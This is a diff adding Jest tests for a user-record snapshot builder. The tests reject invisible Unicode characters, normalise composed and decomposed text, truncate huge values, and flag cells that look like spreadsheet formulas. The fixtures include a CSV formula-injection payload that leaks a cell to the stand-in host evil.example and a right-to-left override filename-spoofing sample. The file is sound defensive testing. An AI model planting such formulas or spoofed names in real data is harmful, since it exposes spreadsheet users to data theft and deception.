@@ -164,12 +164,121 @@ describe('buildSnapshot problems name the item and the column', () => {
 		]);
 	});
 
-	test('valid text passes: surrogate pairs, right-to-left text, 256 characters', () => {
+	test('valid text passes: surrogate pairs, right-to-left text, joiners in names, 256 characters', () => {
 		const snapshot = buildSnapshot([
-			{ user_lookup_id: 'a', display_name: '😀 \u202Bשלום\u202C', email_address: 'a.b+c@sub.x.co' },
+			{ user_lookup_id: 'a', display_name: '😀 שלום', email_address: 'a.b+c@sub.x.co' },
 			{ user_lookup_id: 'b', display_name: 'y'.repeat(256) },
+			// The zero width non-joiner spells Persian names; the joiner makes one emoji of several.
+			{ user_lookup_id: 'c', display_name: 'می\u200Cخواهم 👩\u200D💻', group: 'تیم\u200Cفروش' },
 		]);
 		expect(snapshot.problems).toEqual([]);
+	});
+
+	test.each<[string, Record<string, unknown>, string, RegExp]>([
+		[
+			'a zero width space in a lookup id',
+			{ user_lookup_id: 'ana\u200B@x.com' },
+			'user_lookup_id',
+			/invisible format character U\+200B \(zero width space\) at position 4/,
+		],
+		[
+			'a zero width space in a group',
+			{ user_lookup_id: 'a', group: 'Sales\u200B' },
+			'group',
+			/U\+200B \(zero width space\)/,
+		],
+		[
+			'a right-to-left override in a name',
+			{ user_lookup_id: 'a', display_name: 'Ana \u202Egnp.exe' },
+			'display_name',
+			/U\+202E \(right-to-left override\)/,
+		],
+		[
+			'a joiner in an e-mail address',
+			{ user_lookup_id: 'a', email_address: 'a\u200D@x.com' },
+			'email_address',
+			/U\+200D \(zero width joiner\)/,
+		],
+		[
+			'a byte order mark in an employee id',
+			{ user_lookup_id: 'a', employee_id: '4\uFEFF2' },
+			'employee_id',
+			/U\+FEFF/,
+		],
+		[
+			'a line separator in a name',
+			{ user_lookup_id: 'a', display_name: 'Ana\u2028Bo' },
+			'display_name',
+			/line separator U\+2028 at position 4/,
+		],
+		[
+			'a paragraph separator in a group',
+			{ user_lookup_id: 'a', group: 'A\u2029B' },
+			'group',
+			/paragraph separator U\+2029/,
+		],
+		[
+			'a format character beyond the BMP (a language tag)',
+			{ user_lookup_id: 'a\u{E0001}b' },
+			'user_lookup_id',
+			/U\+E0001/,
+		],
+	])('%s is refused, naming the item and the column', (_name, record, column, message) => {
+		const snapshot = buildSnapshot([{ user_lookup_id: 'ok' }, record]);
+		expect(snapshot.problems).toEqual([
+			expect.objectContaining({ itemIndex: 1, column, message: expect.stringMatching(message) }),
+		]);
+	});
+
+	test('ids, groups and names in decomposed Unicode (NFD) are the same as composed (NFC)', () => {
+		const composed = 'jos\u00e9@x.com';
+		const decomposed = 'jose\u0301@x.com';
+		const snapshot = buildSnapshot([
+			{ user_lookup_id: composed, group: 'Caf\u00e9', display_name: 'Jos\u00e9' },
+			{ user_lookup_id: decomposed, group: 'Cafe\u0301', display_name: 'Jose\u0301' },
+		]);
+		expect(snapshot.problems).toEqual([]);
+		expect(snapshot.summary).toMatchObject({
+			users: 1,
+			rows: 1,
+			groups: 1,
+			duplicateRowsCollapsed: 1,
+		});
+		expect([...snapshotRows(snapshot)]).toEqual([
+			[composed, '', '', 'Jos\u00e9', 'Caf\u00e9', '', ''],
+		]);
+	});
+
+	test('cells that start like a spreadsheet formula are noted, or refused when asked', () => {
+		const records = [
+			{ user_lookup_id: 'a', display_name: '=HYPERLINK("http://evil.example/?d="&A3,"Click me")' },
+			{ user_lookup_id: 'b', group: '@SUM(1+1)', employee_id: -5 },
+			{ user_lookup_id: '+c', display_name: 'Ana-Maria', email_address: 'x-y@x.com' },
+		];
+		const noted = buildSnapshot(records);
+		expect(noted.problems).toEqual([]);
+		expect(noted.formulaCells).toEqual([
+			{ itemIndex: 0, column: 'display_name', start: '=' },
+			{ itemIndex: 1, column: 'group', start: '@' },
+			{ itemIndex: 2, column: 'user_lookup_id', start: '+' },
+		]);
+		const refused = buildSnapshot(records, { refuseFormulaCells: true });
+		expect(refused.problems.map((p) => [p.itemIndex, p.column])).toEqual([
+			[0, 'display_name'],
+			[1, 'group'],
+			[2, 'user_lookup_id'],
+		]);
+		expect(refused.problems[0].message).toMatch(
+			/starts with "=", so a spreadsheet opening the CSV would run it as a formula/,
+		);
+	});
+
+	test('a 10 MB value is kept only as a short excerpt', () => {
+		const huge = 'x'.repeat(10_000_000);
+		const snapshot = buildSnapshot([{ user_lookup_id: 'a', email_address: huge }]);
+		expect(snapshot.problems).toHaveLength(1);
+		expect(snapshot.problems[0].value).toBe(`${'x'.repeat(77)}...`);
+		expect(JSON.stringify(snapshot.problems).length).toBeLessThan(400);
 	});
 
 	test('one display name for two different users is noted, naming them, and both users are kept', () => {
